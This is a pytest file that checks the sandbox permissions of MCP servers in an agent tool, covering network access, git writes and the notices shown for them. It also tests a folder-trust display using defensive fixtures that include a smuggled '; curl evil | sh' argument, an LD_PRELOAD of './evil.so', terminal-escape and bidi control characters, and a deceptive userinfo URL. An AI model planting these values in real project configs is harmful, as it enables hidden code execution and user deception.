"""What an MCP server may do beyond the sandbox: network and git, where its entry says so, with a notice."""

from __future__ import annotations

import json
import os
import socket
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from support.orphan_trials import Silent, text_of
from support.places import folder_outside_tmp
from support.plain_mcp import PYTHON, SERVER

from makai.agent.project_trust import wanted_by_project
from makai.agent.workbench import Workbench, WorkbenchSpec
from makai.core.confinement import Confinement
from makai.core.session_events import Notice
from makai.tools.base import text_outcome
from makai.tools.mcp.config import StdioServer, parse_mcp_config
from makai.tools.sandbox.detect import Detection, try_bubblewrap, try_landlock

MAY_USE_IT = Notice(
    level="info", code="mcp_server_network", message="The MCP server online may use the network, as its entry says."
)


@pytest.fixture
def repo() -> Iterator[Path]:
    with folder_outside_tmp() as folder:
        for name in ("repo", "home"):
            (folder / name).mkdir()
        yield folder / "repo"


def spec(repo: Path, servers: dict[str, Any], **more: Any) -> WorkbenchSpec:
    (repo.parent / "home/mcp.json").write_text(json.dumps({"mcpServers": servers}))
    environ = {"PATH": os.environ["PATH"], "HOME": str(repo.parent), "XDG_CACHE_HOME": str(repo.parent / "cache")}
    return WorkbenchSpec(session_id="s1", cwd=str(repo), makai_home=repo.parent / "home", environ=environ, **more)


@pytest.mark.parametrize("backend", [try_bubblewrap, try_landlock])
async def test_a_server_has_the_network_only_when_its_entry_says_so_and_a_notice_says_it(
    repo: Path, backend: Any
) -> None:
    found = backend()
    if isinstance(found, str):
        pytest.skip(found)
    (repo / "server.py").write_text(SERVER)
    command = {"command": PYTHON, "args": ["-I", str(repo / "server.py")]}
    servers = {"offline": command, "online": {**command, "network": True}}
    with socket.create_server(("127.0.0.1", 0)) as listener:
        arguments = {"port": listener.getsockname()[1]}
        async with Workbench(spec(repo, servers), detection=Detection(backend=found)) as bench:
            await bench.ready(30.0)
            tools = bench.tools(bench.rules())
            assert bench.take_notices() == (MAY_USE_IT,)
            said = [await tools[f"mcp__{name}__connect"].run(arguments, Silent()) for name in servers]

    assert said == [text_outcome("refused"), text_outcome("connected")]


async def test_a_program_that_started_and_failed_without_network_gets_a_notice_how_to_get_it(
    repo: Path,
) -> None:
    found = try_bubblewrap()
    if isinstance(found, str):
        pytest.skip(found)
    hint = '(It has no network; `"network": true` in its entry would give it one.)'
    servers = {
        "a": {"command": "/bin/false"},
        "b": {"command": "/bin/false", "network": True},
        "missing": {"command": "no-such-program-of-makai"},
        "not_executable": {"command": "/etc/passwd"},
    }
    for level, hinted in (("workspace-write", [True, *[False] * 3]), ("full-access", [False] * 4)):
        async with Workbench(spec(repo, servers, sandbox=level), detection=Detection(backend=found)) as bench:
            await bench.ready(30.0)
            failed = [notice.message for notice in bench.notices if notice.code == "mcp_server_failed"]

        assert [message.endswith(hint) for message in failed] == hinted


def test_what_asks_for_the_network_is_another_server_to_those_who_approved_it() -> None:
    text = '{"mcpServers": {"x": {"command": "x", "network": true}}}'

    [server] = parse_mcp_config(text, {}).servers

    assert server == StdioServer(name="x", command="x", opened=Confinement(network=("*",)))
    assert server.identity != StdioServer(name="x", command="x").identity


@pytest.mark.parametrize("value", ['"yes"', "1", "null"])
def test_only_true_is_yes(value: str) -> None:
    config = parse_mcp_config(f'{{"mcpServers": {{"x": {{"command": "x", "network": {value}}}}}}}', {})

    assert (config.servers, list(config.problems)) == ((), ["x"])


@pytest.mark.parametrize("backend", [try_bubblewrap, try_landlock])
async def test_a_server_writes_the_repository_only_when_its_entry_says_so_and_a_notice_says_it(
    repo: Path, backend: Any
) -> None:
    found = backend()
    if isinstance(found, str):
        pytest.skip(found)
    (repo / ".git/hooks").mkdir(parents=True)
    (repo / ".git/HEAD").write_text("ref: refs/heads/main\n")
    (repo / ".git/config").write_text("[core]\n\tbare = false\n")
    for folder in ("objects", "refs"):
        (repo / ".git" / folder).mkdir()
    (repo / "server.py").write_text(SERVER)
    command = {"command": PYTHON, "args": ["-I", str(repo / "server.py")]}
    servers = {"reads": command, "commits": {**command, "git": True}}
    async with Workbench(spec(repo, servers), detection=Detection(backend=found)) as bench:
        await bench.ready(30.0)
        tools = bench.tools(bench.rules())
        told = [(notice.code, notice.message) for notice in bench.take_notices()]
        said = {
            name: text_of(await tools[f"mcp__{name}__write"].run({"path": str(repo / ".git/index")}, Silent()))
            for name in servers
        }
        (repo / ".git/config").write_text("[user]\n\tname = Ada\n")  # by the person, meanwhile

    may = "The MCP server commits may write the git repository, as its entry says."
    assert told == [("mcp_server_git", f"{may} What it writes there can run code when you use git.")]
    assert said == {"reads": "refused", "commits": "written"}
    assert (repo / ".git/config").read_text() == "[user]\n\tname = Ada\n", "what the person changed stays"


def test_what_asks_for_the_repository_is_another_server_too() -> None:
    entries = ('{"command": "x"}', '{"command": "x", "network": true}', '{"command": "x", "git": true}')
    configs = [parse_mcp_config(f'{{"mcpServers": {{"x": {entry}}}}}', {}) for entry in entries]

    assert len({config.servers[0].identity for config in configs}) == 3


def test_who_trusts_a_folder_is_shown_all_that_its_files_set_and_run() -> None:
    servers = {
        "plain": {"command": "server", "args": ["--token", "${TOKEN}", "${X:-evil}"], "cwd": "sub\u3164"},
        "long": {"command": "npx", "args": ["x" * 3000, "; curl evil | sh"]},
        "open": {
            "command": "sh",
            "args": ["-c", "evil \x1b[2J\u202e\u200d\u3164\u2800\n"],
            "env": {"LD_PRELOAD": "./evil.so", "KEY": "${KEY}"},
            "network": True,
            "git": True,
        },
        "far": {"url": "https://good.example@mcp.example/x?key=k3y", "headers": {"Authorization": "Bearer ${T}"}},
        "named": {"url": "${BASE:-https://evil.example}/mcp"},
        "odd": {"command": "x", "git": "yes\u200d"},
    }
    settings = 'sandbox = "full-access"\u2800\n\n[permissions]\n'
    files = {".makai/config.toml": settings.encode(), ".mcp.json": json.dumps({"mcpServers": servers}).encode()}

    assert wanted_by_project(files) == [
        ".makai/config.toml sets:",
        '  sandbox = "full-access"\\u2800',
        "  ",
        "  [permissions]",
        "MCP server plain: runs server --token '${TOKEN}' '${X:-evil}'",
        "  in the folder sub\\u3164",
        f"MCP server long: runs npx {'x' * 3000} '; curl evil | sh'",
        "MCP server open: runs sh -c 'evil \\x1b[2J\\u202e\\u200d\\u3164\\u2800\\n', with network to every address, "
        "may write the git repository (which can make later git commands run code)",
        "  with the variable LD_PRELOAD=./evil.so",
        "  with the variable KEY=${KEY}",
        "MCP server far: calls https://mcp.example/x (written https://good.example@mcp.example/x?key=k3y)",
        "  with the header Authorization: Bearer ${T}",
        "MCP server named: calls ${BASE:-https://evil.example}/mcp",
        ".mcp.json: 'odd': Expected `bool`, got `str` - at `$.git`.",
    ]
    assert wanted_by_project({}) == []
